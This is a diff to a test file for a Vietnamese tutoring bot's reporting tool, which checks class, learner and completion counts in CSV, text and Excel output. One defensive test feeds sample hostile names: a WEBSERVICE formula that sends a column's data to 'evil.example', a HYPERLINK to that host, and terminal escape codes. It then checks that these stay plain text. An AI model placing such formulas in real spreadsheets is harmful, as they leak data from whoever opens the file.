@@ -6,8 +6,10 @@ from __future__ import annotations
 import asyncio
 import csv
 import io
+import re
 import subprocess
 import sys
+import zipfile
 from datetime import datetime, timedelta
 from pathlib import Path
 
@@ -65,7 +67,12 @@ async def seed(tutor: Tutor, clock: Clock) -> None:
             user.display_name = {"tnv-a": "Minh", "tnv-b": "Khánh"}[name]
     org = Chat(tutor, Actor("console", "tnv-a", "Minh"))
     classes = {}
-    for volunteer, name, when in (("tnv-a", "Lớp A", "3/11 8:00"), ("tnv-b", "Lớp B", "4/11 8:00")):
+    for volunteer, name, when in (
+        ("tnv-a", "Lớp A", "3/11 8:00"),
+        ("tnv-b", "Lớp B", "4/11 8:00"),
+        ("tnv-a", "Lớp C", "12/11 8:00"),  # next week, when the seeding ends: not held yet
+        ("tnv-a", "Lớp D", "bỏ qua"),  # no time set: never counted as held
+    ):
         chat = org.person(volunteer, "")
         for line in ("/taolop", name, "bỏ qua", when):
             await chat.say(line)
@@ -74,19 +81,22 @@ async def seed(tutor: Tutor, clock: Clock) -> None:
 
             from bot.store.models import Class
 
-            classes[volunteer] = (
-                await repo.session.execute(select(Class).where(Class.name == name))
-            ).scalar_one()
+            classes[name] = (await repo.session.execute(select(Class).where(Class.name == name))).scalar_one()
+    # Not learners: a volunteer who types another volunteer's class code, and someone who only
+    # wrote to the bot.
+    joined = await org.person("tnv-b", "").say(f"/ma {classes['Lớp A'].short_code}")
+    assert "Bác đã vào lớp «Lớp A»" in joined[-1].text
+    await org.person("x1", "Người lạ").say("xin chào")
     people = {}
-    for ext, name, volunteer in (
-        ("a1", "Nguyễn Thị An", "tnv-a"),
-        ("a2", "Trần Văn Bình", "tnv-a"),
-        ("a3", "Lê Thị Cúc", "tnv-a"),
-        ("b1", "Phạm Văn Dũng", "tnv-b"),
-        ("b2", "Hoàng Thị Em", "tnv-b"),
+    for ext, name, klass in (
+        ("a1", "Nguyễn Thị An", "Lớp A"),
+        ("a2", "Trần Văn Bình", "Lớp A"),
+        ("a3", "Lê Thị Cúc", "Lớp A"),
+        ("b1", "Phạm Văn Dũng", "Lớp B"),
+        ("b2", "Hoàng Thị Em", "Lớp B"),
     ):
         chat = org.person(ext, name)
-        await chat.send(Start(f"c-{classes[volunteer].code}"))
+        await chat.send(Start(f"c-{classes[klass].code}"))
         people[ext] = chat
     # a1: right first time, 10 minutes; then re-tries and stops at the question.
     await finish(people["a1"], clock, 0, 10, ["khong"])
@@ -117,6 +127,9 @@ async def seeded(db_url: str, clock: FrozenClock):
 
 
 CONFIG = ROOT / "tests" / "data" / "report-config.yaml"
+# A report subprocess runs on the real clock: every call names its period. Seeding happens from 2
+# to 5 November (local); the 5th is the period's "now" (classes held, active in the last 7 days).
+PERIOD = ("--since", "2026-11-01", "--until", "2026-11-05")
 
 
 def run_report(db_url: str, *args: str) -> subprocess.CompletedProcess[str]:
@@ -132,7 +145,7 @@ def run_report(db_url: str, *args: str) -> subprocess.CompletedProcess[str]:
 
 
 async def test_by_lesson_csv_gives_the_seeded_counts(seeded, db_url: str) -> None:
-    proc = await asyncio.to_thread(run_report, db_url, "--by", "lesson", "--format", "csv")
+    proc = await asyncio.to_thread(run_report, db_url, "--by", "lesson", "--format", "csv", *PERIOD)
     assert proc.returncode == 0, proc.stderr
     rows = list(csv.DictReader(io.StringIO(proc.stdout)))
     assert list(rows[0]) == [
@@ -170,17 +183,53 @@ async def test_by_lesson_csv_gives_the_seeded_counts(seeded, db_url: str) -> Non
 
 
 async def test_scope_of_a_unit_and_dates(seeded, db_url: str) -> None:
-    proc = await asyncio.to_thread(run_report, db_url, "--by", "lesson", "--format", "csv", "--unit", "hn-b")
+    proc = await asyncio.to_thread(
+        run_report, db_url, "--by", "lesson", "--format", "csv", "--unit", "hn-b", *PERIOD
+    )
     rows = {r["lesson_id"]: r for r in csv.DictReader(io.StringIO(proc.stdout))}
     assert (rows["thu-nghiem"]["started"], rows["thu-nghiem"]["completed"]) == ("1", "1")
     # From 3 November (local): a1's re-try that day is not a new start; everything else was on the 2nd.
     proc = await asyncio.to_thread(
-        run_report, db_url, "--by", "lesson", "--format", "csv", "--since", "2026-11-03"
+        run_report,
+        db_url,
+        "--by",
+        "lesson",
+        "--format",
+        "csv",
+        "--since",
+        "2026-11-03",
+        "--until",
+        "2026-11-05",
     )
     rows = {r["lesson_id"]: r for r in csv.DictReader(io.StringIO(proc.stdout))}
     assert (rows["thu-nghiem"]["started"], rows["thu-nghiem"]["completed"]) == ("0", "0")
+    # Everyone became a learner on the 2nd: no new learners from the 3rd, though all five were
+    # learners then and active in the 7 days up to the 5th; classes A and B were held on the 3rd and 4th.
     proc = await asyncio.to_thread(
-        run_report, db_url, "--by", "lesson", "--format", "csv", "--until", "2026-11-02"
+        run_report,
+        db_url,
+        "--by",
+        "unit",
+        "--format",
+        "csv",
+        "--since",
+        "2026-11-03",
+        "--until",
+        "2026-11-05",
+    )
+    hn = next(r for r in csv.DictReader(io.StringIO(proc.stdout)) if r["unit_id"] == "hn")
+    assert (hn["learners"], hn["active_7d"], hn["classes"]) == ("0", "5", "2")
+    proc = await asyncio.to_thread(
+        run_report,
+        db_url,
+        "--by",
+        "lesson",
+        "--format",
+        "csv",
+        "--since",
+        "2026-11-01",
+        "--until",
+        "2026-11-02",
     )
     rows = {r["lesson_id"]: r for r in csv.DictReader(io.StringIO(proc.stdout))}
     assert (rows["thu-nghiem"]["started"], rows["thu-nghiem"]["completed"]) == ("4", "3")
@@ -188,7 +237,7 @@ async def test_scope_of_a_unit_and_dates(seeded, db_url: str) -> None:
 
 async def test_by_unit_and_step_text(seeded, db_url: str) -> None:
     # The period ends on 5 November: "active in 7 days" counts the 7 days up to then, whatever today is.
-    proc = await asyncio.to_thread(run_report, db_url, "--by", "unit", "--until", "2026-11-05")
+    proc = await asyncio.to_thread(run_report, db_url, "--by", "unit", *PERIOD)
     lines = proc.stdout.splitlines()
     assert lines[0] == "== Theo đơn vị =="
     rows = {line.split()[0]: line.split() for line in lines[3:]}
@@ -197,10 +246,12 @@ async def test_by_unit_and_step_text(seeded, db_url: str) -> None:
     assert rows["hn-a"][-8:] == ["3", "3", "4", "2", "50,0%", "1", "1", "1"]
     assert rows["hn-b"][-8:] == ["2", "2", "1", "1", "100,0%", "1", "1", "0"]
     # A period that ended long after everyone stopped: nobody was active in its last 7 days.
-    proc = await asyncio.to_thread(run_report, db_url, "--by", "unit", "--until", "2026-11-30")
+    proc = await asyncio.to_thread(
+        run_report, db_url, "--by", "unit", "--since", "2026-11-01", "--until", "2026-11-30"
+    )
     rows = {line.split()[0]: line.split() for line in proc.stdout.splitlines()[3:]}
     assert rows["hn"][-8:-6] == ["5", "0"]
-    proc = await asyncio.to_thread(run_report, db_url, "--by", "step", "--format", "csv")
+    proc = await asyncio.to_thread(run_report, db_url, "--by", "step", "--format", "csv", *PERIOD)
     funnel = [
         (r["lesson_id"], r["step_id"], r["reached"], r["reached_rate"], r["first_try_correct_rate"])
         for r in csv.DictReader(io.StringIO(proc.stdout))
@@ -217,7 +268,9 @@ async def test_by_unit_and_step_text(seeded, db_url: str) -> None:
 
 async def test_excel_workbook(seeded, db_url: str, tmp_path: Path) -> None:
     out = tmp_path / "r.xlsx"
-    proc = await asyncio.to_thread(run_report, db_url, "--format", "xlsx", "--out", str(out), "--mask-names")
+    proc = await asyncio.to_thread(
+        run_report, db_url, "--format", "xlsx", "--out", str(out), "--mask-names", *PERIOD
+    )
     assert proc.returncode == 0, proc.stderr
     assert "[7/7] learner" in proc.stderr  # progress on the terminal
     book = openpyxl.load_workbook(out)
@@ -231,11 +284,18 @@ async def test_excel_workbook(seeded, db_url: str, tmp_path: Path) -> None:
         "Học viên",
     ]
     summary = {row[0]: row for row in book["Tổng hợp"].iter_rows(min_row=2, values_only=True)}
+    # Classes held: A and B. C (scheduled for the 12th) and D (no time) have not been held.
     assert summary["classes"][2:] == (4, 2, 0.5)
     assert summary["learners"][2:] == (10, 5, 0.5)
     assert summary["completions"][2:] == (6, 3, 0.5)
     assert summary["volunteers"][2:] == (4, 2, 0.5)
     assert summary["help_open"][3] == 1
+    # One convention per format: counts are integers shown as integers, rates fractions shown as %.
+    assert summary["completion_rate"][3] == 0.6
+    cells = {row[0].value: row for row in book["Tổng hợp"].iter_rows(min_row=2)}
+    assert cells["classes"][3].number_format == "General"  # "2", not "2.0"
+    assert cells["completion_rate"][3].number_format == "0.0%"
+    assert cells["classes"][4].number_format == "0.0%"
     lessons = list(book["Theo bài học"].iter_rows(min_row=1, values_only=True))
     assert lessons[0] == (
         "Mã bài",
@@ -251,14 +311,29 @@ async def test_excel_workbook(seeded, db_url: str, tmp_path: Path) -> None:
     assert book["Theo bài học"]["F2"].number_format == "0.0%"
     assert book["Theo bài học"].column_dimensions["B"].width == 42
     classes = list(book["Theo lớp"].iter_rows(min_row=2, values_only=True))
-    assert [(c[1], c[4], c[5], c[6], c[7]) for c in classes] == [
-        ("Lớp A", datetime(2026, 11, 3, 8, 0), "M***", 3, 2),  # dates in Asia/Ho_Chi_Minh, masked names
-        ("Lớp B", datetime(2026, 11, 4, 8, 0), "K***", 2, 1),
+    # Dates in Asia/Ho_Chi_Minh, masked names; "held at" only for a class whose time has come (C is
+    # next week, D has no time: neither shows its creation time as held); the volunteer who typed
+    # class A's code is not one of its learners.
+    assert [(c[1], c[4], c[5], c[6], c[7], c[8]) for c in classes] == [
+        ("Lớp A", datetime(2026, 11, 3, 8, 0), "M***", 3, 2, datetime(2026, 11, 3, 8, 0)),
+        ("Lớp C", None, "M***", 0, 0, datetime(2026, 11, 12, 8, 0)),
+        ("Lớp D", None, "M***", 0, 0, None),
+        ("Lớp B", datetime(2026, 11, 4, 8, 0), "K***", 2, 1, datetime(2026, 11, 4, 8, 0)),
     ]
+    # Unit names are plain names; the tree is shown by the cell's indentation.
+    units = {row[0].value: row[1] for row in book["Theo đơn vị"].iter_rows(min_row=2)}
+    assert (units["hn"].value, units["hn-a"].value, units["hn-b"].value) == ("Hà Nội", "Phường A", "Xã B")
+    assert (units["hn"].alignment.indent, units["hn-a"].alignment.indent) == (0, 1)
     learners = {row[0]: row for row in book["Học viên"].iter_rows(min_row=2, values_only=True)}
     names = sorted(row[1] for row in learners.values())
+    # Only learners: not the volunteer who typed a class code, nor someone who only said hello.
     assert names == ["H*** T** E*", "L* T** C**", "N*** T** A*", "P*** V** D***", "T*** V** B***"]
+    header = next(book["Học viên"].iter_rows(max_row=1, values_only=True))
+    assert header[-2:] == ("Lớp", "Tình nguyện viên")
+    assert sorted(row[-2:] for row in learners.values()) == [("Lớp A", "M***")] * 3 + [("Lớp B", "K***")] * 2
     volunteers = list(book["Theo tình nguyện viên"].iter_rows(min_row=2, values_only=True))
+    # Minh held one class (C and D are not held yet); Khánh, who typed class A's code, is not
+    # counted as Minh's learner.
     assert [(v[1], v[3], v[4], v[5]) for v in volunteers] == [("M***", 1, 3, 2), ("K***", 1, 2, 1)]
 
 
@@ -274,7 +349,16 @@ async def test_thongke_shows_only_the_organizers_scope(seeded) -> None:
         "Bài đã bắt đầu: 4 · học xong: 2 (50,0%)",
     ]
     assert "Bài đã bắt đầu: 1 · học xong: 1 (100,0%)" in texts["org-b"]
-    assert "Người học: 5" in texts["org-hn"] and "• Lớp: 2/4 (50,0%)" in texts["org-hn"]
+    # Hà Nội is measured against its own targets; its communes have none, and are not measured
+    # against the whole campaign's (4 classes, 10 learners).
+    assert texts["org-hn"].splitlines()[-3:] == [
+        "🎯 Chỉ tiêu:",
+        "• Lớp: 2/3 (66,7%)",
+        "• Người học: 5/8 (62,5%)",
+    ]
+    assert texts["org-a"].splitlines()[-1] == "🎯 Đơn vị này chưa có chỉ tiêu riêng."
+    assert "/4" not in texts["org-a"] and "/10" not in texts["org-b"]
+    assert "Lớp học đã tổ chức: 1" in texts["org-a"]  # Lớp A; C is next week, D has no time
     assert all(len(t) <= 500 for t in texts.values())
     learner = await Chat(tutor, Actor("console", "a1", "x")).say("/thongke")
     assert learner[0].text.startswith("Cháu chưa biết lệnh này")
@@ -307,3 +391,193 @@ async def test_baocao_delivers_the_workbook_through_telegram(db_url: str, clock:
         await channel.stop()
         await tutor.db.close()
         await api.stop()
+
+
+async def test_summary_has_one_convention_per_format(seeded, db_url: str) -> None:
+    # CSV: raw values, rates as fractions like every other table, counts as integers.
+    proc = await asyncio.to_thread(run_report, db_url, "--format", "csv", *PERIOD)
+    assert proc.returncode == 0, proc.stderr
+    rows = {r["metric"]: r for r in csv.DictReader(io.StringIO(proc.stdout))}
+    assert (rows["classes"]["actual"], rows["classes"]["percent"]) == ("2", "0.5")
+    assert rows["completion_rate"]["actual"] == "0.6"  # 3 of 5 started lessons, not 60.0
+    assert rows["learners"]["actual"] == "5"
+    # Text: the same rate as a formatted percentage.
+    proc = await asyncio.to_thread(run_report, db_url, *PERIOD)
+    line = next(line for line in proc.stdout.splitlines() if line.startswith("completion_rate"))
+    assert line.split()[-2:] == ["60,0%", "—"]  # actual, percent of target (none)
+
+
+async def complete_twice(tutor: Tutor, clock: Clock) -> None:
+    """One learner completes thu-nghiem on 2 November in 10 minutes, and again on the 4th in 30."""
+    async with tutor.db.transaction() as repo:
+        await repo.upsert_unit("hn", "Hà Nội", None, "tinh")
+        await repo.upsert_unit("hn-a", "Phường A", "hn", "xa")
+        volunteer = await repo.grant("console", "tnv-a", "volunteer", "hn-a", T0)
+        volunteer.display_name = "Minh"
+    minh = Chat(tutor, Actor("console", "tnv-a", "Minh"))
+    # Created on the 2nd, held on the 4th: listed in a report of either day.
+    for line in ("/taolop", "Lớp A", "bỏ qua", "4/11 8:00"):
+        replies = await minh.say(line)
+    code = next(word for word in replies[0].text.split() if len(word) == 6 and word.isupper())
+    learner = minh.person("c1", "Đỗ Thị Chín")
+    await learner.say(f"/ma {code}")
+    await finish(learner, clock, 0, 10, ["khong"])
+    await finish(learner, clock, 2 * 24 * 60, 30, ["khong"])
+
+
+async def test_a_second_completion_does_not_count_again(db_url: str, clock: FrozenClock) -> None:
+    """Counting the latest completion instead of the first would move the lesson to the 4th, make
+    it 30 minutes, and count it again: every figure must keep the first (2 November, 10 minutes)."""
+    clock = Clock(clock)
+    tutor = await make_tutor(db_url)
+    try:
+        await complete_twice(tutor, clock)
+    finally:
+        await tutor.db.close()
+
+    def figures(since: str, until: str) -> dict[str, list[dict[str, str]]]:
+        found = {}
+        for by in ("lesson", "unit", "class", "volunteer", "learner"):
+            proc = run_report(db_url, "--by", by, "--format", "csv", "--since", since, "--until", until)
+            assert proc.returncode == 0, proc.stderr
+            found[by] = list(csv.DictReader(io.StringIO(proc.stdout)))
+        return found
+
+    def completed(found: dict[str, list[dict[str, str]]]) -> dict[str, str]:
+        return {
+            "lesson": found["lesson"][0]["completed"],
+            "unit": found["unit"][0]["completed"],
+            "class": found["class"][0]["completions"],
+            "volunteer": found["volunteer"][0]["completions"],
+            "learner": found["learner"][0]["lessons_completed"],
+        }
+
+    whole = await asyncio.to_thread(figures, "2026-11-01", "2026-11-05")
+    lesson = whole["lesson"][0]
+    assert (lesson["started"], lesson["completed"], lesson["median_minutes"]) == ("1", "1", "10.0")
+    assert set(completed(whole).values()) == {"1"}
+    first_day = await asyncio.to_thread(figures, "2026-11-02", "2026-11-02")
+    assert first_day["lesson"][0]["median_minutes"] == "10.0"
+    assert set(completed(first_day).values()) == {"1"}
+    # The 3rd to the 5th hold only the second run: nothing new was started or completed then.
+    later = await asyncio.to_thread(figures, "2026-11-03", "2026-11-05")
+    assert (later["lesson"][0]["started"], later["lesson"][0]["median_minutes"]) == ("0", "")
+    assert later["learner"][0]["lessons_started"] == "0"
+    assert set(completed(later).values()) == {"0"}
+
+
+NAMES = {
+    "n1": "=1+1",
+    "n2": '=WEBSERVICE("http://evil.example/?"&TEXTJOIN(",",1,B:B))',
+    "n3": "＝HYPERLINK(１)",  # full-width: Excel reads it as a formula too
+    "n4": "#N/A",  # openpyxl would make it an error cell
+    "n5": "Bà\x1b[2J Tư\x07",  # terminal escape and bell: not for a terminal, not valid in XML
+    "n6": "Lan;=1+2",  # a Vietnamese Excel splits a CSV on ';'
+}
+
+
+async def test_names_typed_by_strangers_stay_text(db_url: str, clock: FrozenClock, tmp_path: Path) -> None:
+    clock = Clock(clock)
+    tutor = await make_tutor(db_url)
+    try:
+        async with tutor.db.transaction() as repo:
+            await repo.upsert_unit("u1", "+cmd", None, "xa")
+            volunteer = await repo.grant("console", "tnv", "volunteer", "u1", T0)
+            volunteer.display_name = "-Minh"
+        minh = Chat(tutor, Actor("console", "tnv", "-Minh"))
+        for line in ("/taolop", "@SUM(A1)", '=HYPERLINK("http://evil.example","Bấm")', "2/11 8:00"):
+            replies = await minh.say(line)
+        code = next(word for word in replies[0].text.split() if len(word) == 6 and word.isupper())
+        for ext, name in NAMES.items():
+            await minh.person(ext, name).say(f"/ma {code}")
+    finally:
+        await tutor.db.close()
+
+    out = tmp_path / "r.xlsx"
+    proc = await asyncio.to_thread(run_report, db_url, "--format", "xlsx", "--out", str(out), *PERIOD)
+    assert proc.returncode == 0, proc.stderr
+    with zipfile.ZipFile(out) as book:
+        sheets = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/")]
+    assert len(sheets) == 7 and not any(re.search(r"<f[ >/]", xml) for xml in sheets)
+    book = openpyxl.load_workbook(out)
+    names = {row[1].value: row[1].data_type for row in book["Học viên"].iter_rows(min_row=2)}
+    assert names == {**{n: "s" for n in NAMES.values() if n != NAMES["n5"]}, "Bà[2J Tư": "s"}
+    klass = next(book["Theo lớp"].iter_rows(min_row=2, values_only=True))
+    assert klass[1:6:2] == ("@SUM(A1)", '=HYPERLINK("http://evil.example","Bấm")', "-Minh")
+    assert next(book["Theo đơn vị"].iter_rows(min_row=2, values_only=True))[1] == "+cmd"
+
+    def report_csv(by: str) -> list[dict[str, str]]:
+        proc = run_report(db_url, "--by", by, "--format", "csv", *PERIOD)
+        assert proc.returncode == 0, proc.stderr
+        return list(csv.DictReader(io.StringIO(proc.stdout)))
+
+    learners = await asyncio.to_thread(report_csv, "learner")
+    assert sorted(r["name"] for r in learners) == sorted(
+        [
+            "'=1+1",
+            '\'=WEBSERVICE("http://evil.example/?"&TEXTJOIN(",",1,B:B))',
+            "'＝HYPERLINK(１)",
+            "#N/A",
+            "Bà\x1b[2J Tư\x07",
+            "Lan;'=1+2",
+        ]
+    )
+    assert {r["volunteer"] for r in learners} == {"'-Minh"}
+    (klass,) = await asyncio.to_thread(report_csv, "class")
+    assert (klass["class_name"], klass["place"], klass["volunteer"]) == (
+        "'@SUM(A1)",
+        '\'=HYPERLINK("http://evil.example","Bấm")',
+        "'-Minh",
+    )
+    assert (await asyncio.to_thread(report_csv, "unit"))[0]["unit_name"] == "'+cmd"
+    # The terminal table shows the names without their escape sequences.
+    proc = await asyncio.to_thread(run_report, db_url, "--by", "learner", *PERIOD)
+    assert "\x1b" not in proc.stdout and "\x07" not in proc.stdout and "Bà�[2J Tư�" in proc.stdout
+
+
+def test_csv_neutralises_text_but_not_numbers() -> None:
+    from bot.reports.render import csv_value
+
+    assert [csv_value(v) for v in (-3, -2.5, 0.75, None)] == [-3, -2.5, 0.75, ""]
+    assert [csv_value(v) for v in ("-3", "+84 912", "@x", "\tx", "\rx", "－1", "＋1", "＠x")] == [
+        "'-3",
+        "'+84 912",
+        "'@x",
+        "'\tx",
+        "'\rx",
+        "'－1",
+        "'＋1",
+        "'＠x",
+    ]
+    assert [csv_value(v) for v in ("Bà Lan", "", "a; -b", "5-3", "a=b")] == [
+        "Bà Lan",
+        "",
+        "a; '-b",
+        "5-3",
+        "a=b",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("args", "message"),
+    [
+        (["--format", "xlsx"], "hocvuso: --format xlsx needs --out FILE.xlsx"),
+        (
+            ["--format", "csv", "--out", "{tmp}/missing/r.csv"],
+            "hocvuso: --out: folder {tmp}/missing does not exist",
+        ),
+        (["--format", "xlsx", "--out", "{tmp}"], "hocvuso: --out {tmp} is a folder; name a file in it"),
+        (
+            ["--since", "2026-11-10", "--until", "2026-11-01"],
+            "hocvuso: --since 2026-11-10 is after --until 2026-11-01",
+        ),
+    ],
+)
+def test_bad_report_arguments_get_one_line_before_any_work(
+    args: list[str], message: str, tmp_path: Path
+) -> None:
+    database = tmp_path / "never-opened.db"
+    proc = run_report(f"sqlite+aiosqlite:///{database}", *(a.format(tmp=tmp_path) for a in args))
+    assert (proc.returncode, proc.stdout) == (2, "")
+    assert proc.stderr.splitlines() == [message.format(tmp=tmp_path)]  # no traceback, no "[1/7] summary…"
+    assert not database.exists()  # the database was not even opened
